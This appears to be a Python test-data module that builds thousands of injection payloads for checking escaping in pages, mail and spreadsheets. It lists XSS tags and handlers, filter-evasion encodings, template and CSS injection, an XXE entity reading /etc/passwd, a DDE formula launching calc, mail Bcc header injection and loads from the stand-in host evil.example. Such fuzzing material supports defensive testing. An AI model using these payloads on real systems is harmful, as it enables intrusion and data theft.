"""Text that would be something else than text, if a page, a mail or a sheet let it.

payloads(10_000) → that many different strings; each that can run calls canary() or alert(), each
that can fetch names evil.example. Most are short enough to be shown whole in a field of 80.
"""

import html
import random
from collections.abc import Callable, Iterator
from itertools import chain, count, islice
from urllib.parse import quote

SCRIPTS = ("canary()", "alert(1)", "canary`1`", "top.canary()", "import('//evil.example/x')")

MARKUP = (
    # elements that run, fetch or go somewhere by being there
    "<script>§</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>§</sCrIpT >",
    "<script\x0b>§</script>",
    "<img src=x onerror=§>",
    "<img/src=x/onerror=§>",
    "<image href=x onerror=§>",
    "<svg onload=§>",
    "<svg/onload=§>",
    "<svg><script>§</script></svg>",
    "<svg><animate onbegin=§ attributeName=x>",
    "<svg><set onbegin=§ attributeName=x to=y>",
    "<svg><foreignObject><script>§</script>",
    "<svg><use href=//evil.example/x.svg#a />",
    "<svg><image href=//evil.example/x.png />",
    "<math><mi//xlink:href=javascript:§>",
    "<body onload=§>",
    "<details open ontoggle=§>",
    "<video src=x onerror=§>",
    "<video><source onerror=§>",
    "<audio src=x onerror=§>",
    "<input autofocus onfocus=§>",
    "<select autofocus onfocus=§>",
    "<iframe src=javascript:§>",
    "<iframe srcdoc='<script>§</script>'>",
    "<iframe src=//evil.example>",
    "<object data=javascript:§>",
    "<embed src=javascript:§>",
    "<a href=javascript:§>open</a>",
    "<a href=//evil.example target=_blank>open</a>",
    "<form action=javascript:§><button>go</button></form>",
    "<button formaction=javascript:§>go</button>",
    "<marquee onstart=§>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<meta http-equiv=refresh content='0;url=data:text/html,x'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preconnect href=//evil.example>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>body{display:none}</style>",
    "<template><script>§</script></template>",
    "<noscript><p title='</noscript><script>§</script>'>",
    "<plaintext>",
    "<title>",
    "<textarea>",
    "<xmp>",
    "<frameset onload=§>",
    # ends of what the text may stand in
    "</title><script>§</script>",
    "</style><script>§</script>",
    "</svg><script>§</script>",
    "</desc></title><script>§</script>",
    "</td></tr></table><script>§</script>",
    "</blockquote></li></ul></section></main><h1>x</h1>",
    "</body></html><script>§</script>",
    "</details></summary><details open>",
    "--><script>§</script>",
    "--!><img src=x onerror=§>",
    "]]><script>§</script>",
    "<!--",
    "<![CDATA[",
    "<?xml version='1.0'?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    # ends of attributes
    '" onmouseover="§" x="',
    "' onmouseover='§' x='",
    "` onmouseover=`§` x=`",
    '" autofocus onfocus=§ x="',
    '"><script>§</script>',
    "'><script>§</script>",
    '"/><svg onload=§>',
    '" style="position:fixed;inset:0',
    "\" href='javascript:§'",
    "x onload=§",
    '\n" onerror=§ "',
    '\x00"><script>§</script>',
    "<scr\x00ipt>§</scr\x00ipt>",
    # targets
    "javascript:§",
    "JaVaScRiPt:§",
    "java\tscript:§",
    " javascript:§",
    "data:text/html,<script>§</script>",
    "vbscript:§",
    "//evil.example/§",
    "https://evil.example/?§",
    "https://you@evil.example",
    # templates
    "{{ § }}",
    "{{ 7*7 }}",
    "{% include '/etc/passwd' %}",
    "{# § #}",
    "{{ ''.__class__.__mro__ }}",
    "${§}",
    "<%= § %>",
    "#{§}",
    "{employer} {n} {0} {§} } {",
    "%s %n %(x)s %%",
    "{% raw %}<script>§</script>",
    "\\u003cscript\\u003e§",
    "&lt;script&gt;§&lt;/script&gt;",
    "&#60;script&#62;§&#60;/script&#62;",
    "&#x3c;script>§&#x3c;/script>",
    "&lt<script>§</script>",
    "&amp;lt;img src=x onerror=§&amp;gt;",
    "&NewLine;&colon;&lpar;",
    # style
    "expression(§)",
    "url(//evil.example/x)",
    "url('javascript:§')",
    "red;}*{display:none}",
    "</style>*{background:url(//evil.example)}",
    "@import url(//evil.example/x.css);",
    "\\3c script\\3e",
    # markdown and mail
    "[open](javascript:§)",
    "![x](//evil.example/x.png)",
    "<javascript:§>",
    "`<script>§</script>`",
    "# Title\n\n- item\n> quote",
    "Subject: x\r\nBcc: evil@evil.example\r\n\r\n<script>§</script>",
    "=?UTF-8?Q?=3Cscript=3E§?=",
    # sheets
    '=HYPERLINK("//evil.example")',
    "=cmd|'/c calc'!A1",
    "+1+§",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '","=1+1',
    "\n=1+1",
    # letters that are not what they look like, or that turn others around
    "\u202e<tpircs>§",
    "\u2066\u202eevil\u2069.example",
    "\u200f\u200e\u061c§",
    "\ufeff<script>§</script>",
    "\u2028<script>§</script>\u2029",
    "＜script＞§＜/script＞",
    "‹script›§",
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "\x1b]0;evil\x07\x1b[31m§",
    "\x9b31m§",
    "\x00\x01\x02\x08\x0b\x0c\x7f§",
    "\U000e0001\U000e0041§",
    "🏳️‍🌈" * 12,
    "W" * 400,
    "<b>" * 200,
    "(((((" * 60,
    "a b " * 2_000,
)  # fmt: skip
"""§ is where a script goes."""

_DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    str.swapcase,
    html.escape,
    quote,
    lambda text: "".join(f"&#{ord(letter)};" for letter in text[:40]),
    lambda text: text.replace("<", "<\n").replace("=", " = "),
    lambda text: text.replace(" ", "/"),
    lambda text: f'Northwind "{text}" & Söhne',
    lambda text: f"{text}{text}",
    lambda text: f"<!--{text}-->",
    lambda text: f"'{text}'",
    lambda text: f" \t{text} \n",
    lambda text: text[::-1],
)


def payloads(number: int, *, seed: int = 0) -> list[str]:
    """Return that many different payloads: each as it is, then disguised, mixed and numbered."""
    return list(islice(_payloads(random.Random(seed)), number))


def _payloads(dice: random.Random) -> Iterator[str]:
    seen = set()
    for text in chain(_in_order(), _mixed(dice)):
        if text not in seen:
            seen.add(text)
            yield text


def _in_order() -> Iterator[str]:
    for script in SCRIPTS:
        yield from (_filled(shape, script) for shape in MARKUP)


def _mixed(dice: random.Random) -> Iterator[str]:
    for number in count():
        first, second = dice.choices(MARKUP, k=2)
        script = dice.choice(SCRIPTS)
        disguised = dice.choice(_DISGUISES)(_filled(first, script))
        yield (
            f"{disguised}{number}"
            if dice.random() < 0.5
            else f"{disguised}{_filled(second, script)}"
        )


def _filled(shape: str, script: str) -> str:
    return shape.replace("§", script)
